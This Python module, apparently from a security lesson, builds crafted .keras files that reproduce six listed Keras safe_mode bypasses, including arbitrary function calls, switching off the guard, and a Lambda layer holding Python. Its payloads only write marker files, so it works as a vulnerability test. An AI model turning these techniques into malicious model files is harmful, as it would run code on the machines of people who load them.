"""Keras' guard against code in model files, and the ways around it that had to be closed.

`load_model` has `safe_mode=True` by default. Each number below is a way in which a file ran code,
or made Keras do something, all the same, until a version closed it. The files are made here, ask
for something harmless (see `labkit.datacenter.smaller.strangers`), and are opened by the Keras
that is installed: a measurement. `labkit.datacenter.security.quoted` has what advisories say.

Lesson: 26_privacy_and_security.
"""

from __future__ import annotations

import json
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

from labkit.datacenter.smaller import strangers
from labkit.datacenter.smaller.strangers import Visit


def visits() -> list[Visit]:
    """Make a file for each number, open it with the guard on, and return what its author could do.

    Lesson: 26_privacy_and_security.
    """
    return [strangers.visit(name, *each) for name, each in _BYPASSES.items()]


# --- a .keras file by hand ----------------------------------------------------------------------


def _archive(path: Path, layers: list[dict], output: str = "x") -> Path:
    """Write a .keras file whose layers are a stranger's own words, and that has no weights."""
    import h5py

    config = {
        "name": "model",
        "trainable": True,
        "layers": [_layer("InputLayer", batch_shape=[None, 2], name="x"), *layers],
        "input_layers": [["x", 0, 0]],
        "output_layers": [[output, 0, 0]],
    }
    model = _object("keras.src.models.functional", "Functional", config)
    path = path.with_suffix(".keras")
    with h5py.File(path.with_suffix(".weights"), "w"):
        pass  # a valid file without anything in it
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("config.json", json.dumps(model))
        archive.writestr("metadata.json", json.dumps({"keras_version": "3.0.0"}))
        archive.write(path.with_suffix(".weights"), "model.weights.h5")
    return path


def _object(module: str, name: str, config: Any) -> dict:
    return {"module": module, "class_name": name, "config": config, "registered_name": None}


def _layer(kind: str, **config: Any) -> dict:
    return _object("keras.layers", kind, config) | {"name": config["name"], "inbound_nodes": []}


def _call(module: str, function: str, *args: Any) -> dict:
    """Return a "layer" that is a function, and a node of the graph that calls it."""
    said = {"module": module, "class_name": "function", "config": function}
    node = {"args": list(args), "kwargs": {}}
    return said | {"registered_name": function, "name": function, "inbound_nodes": [node]}


def _switch(module: str, function: str, *args: Any) -> dict:
    """Return an operation of Keras that calls one of several functions, and here there is one."""
    said = {"module": module, "class_name": "function", "config": function}
    node = {"args": [0, [said | {"registered_name": function}], *args], "kwargs": {}}
    name = f"switch_{function}"
    switch = _object("keras.src.ops.core", "Switch", {"name": name})
    return switch | {"name": name, "inbound_nodes": [node]}


def _connected(layer: dict) -> dict:
    """Return a layer that is given the input of the model."""
    return layer | {"inbound_nodes": [{"args": [_TENSOR], "kwargs": {}}]}


_TENSOR = {
    "class_name": "__keras_tensor__",
    "config": {"shape": [None, 2], "dtype": "float32", "keras_history": ["x", 0, 0]},
}


# --- what each asks for -------------------------------------------------------------------------


def _any_function(path: Path, ran: Path) -> Path:
    """Name a function of any module: io.open, which makes a file."""
    return _archive(path, [_call("io", "open", str(ran), "w")])


def _keras_function(path: Path, ran: Path) -> Path:
    """Name a function of Keras' own: get_file, which writes what an address has, here a copy."""
    original = path.with_suffix(".txt")
    original.write_text("x")
    where = [ran.name, original.as_uri(), False, None, None, "", "auto", False, "auto"]
    return _archive(path, [_switch("keras.utils", "get_file", *where, str(ran.parent))])


def _guard_off(path: Path, ran: Path) -> Path:
    """Name the function that turns the guard off; a layer that holds Python comes after it."""
    off = _switch("keras.config", "enable_unsafe_deserialization")
    run = _switch("keras.config", "floatx")
    run["inbound_nodes"][0]["args"] = [0, [_python_layer(ran)], _TENSOR]  # read when it is called
    return _archive(path, [off, run])


def _python_layer(ran: Path) -> dict:
    """Return the words for a layer that holds compiled Python, as Keras itself writes them."""
    from labkit.networks.backend import keras

    marked = str(ran)
    layer = keras.layers.Lambda(
        lambda x: (open(marked, "w").close(), x)[1], output_shape=(2,), name="python"
    )
    words = json.loads(json.dumps(keras.saving.serialize_keras_object(layer)))
    return words | {"name": "python"}


def _only_the_layer(path: Path, ran: Path) -> Path:
    path.write_text(json.dumps(_python_layer(ran)["config"]))
    return path


def _graph_beside(path: Path, ran: Path) -> Path:
    """Name a SavedModel that lies beside the file; its graph writes a file when it runs."""
    graph = strangers.savedmodel(path, ran)
    layer = _layer("TFSMLayer", filepath=str(graph), call_endpoint="serve", name="graph")
    return _archive(path, [_connected(layer)], output="graph")


def _load(path: Path) -> Callable:
    from labkit.networks.backend import keras

    return keras.models.load_model(path).predict_on_batch


def _from_config(path: Path) -> Callable:
    from labkit.networks.backend import keras

    return keras.layers.Lambda.from_config(json.loads(path.read_text()))


_BYPASSES = {
    "CVE-2025-1550": ("", _any_function, _load),
    "CVE-2025-8747": ("", _keras_function, _load),
    "CVE-2025-9905": ("", strangers.lambda_layer(".h5"), _load),
    "CVE-2026-1462": ("SavedModel", _graph_beside, _load),
    "CVE-2026-12481": ("", _only_the_layer, _from_config),
    "CVE-2025-9906": ("", _guard_off, _load),  # the last: where it works, the guard stays off
}
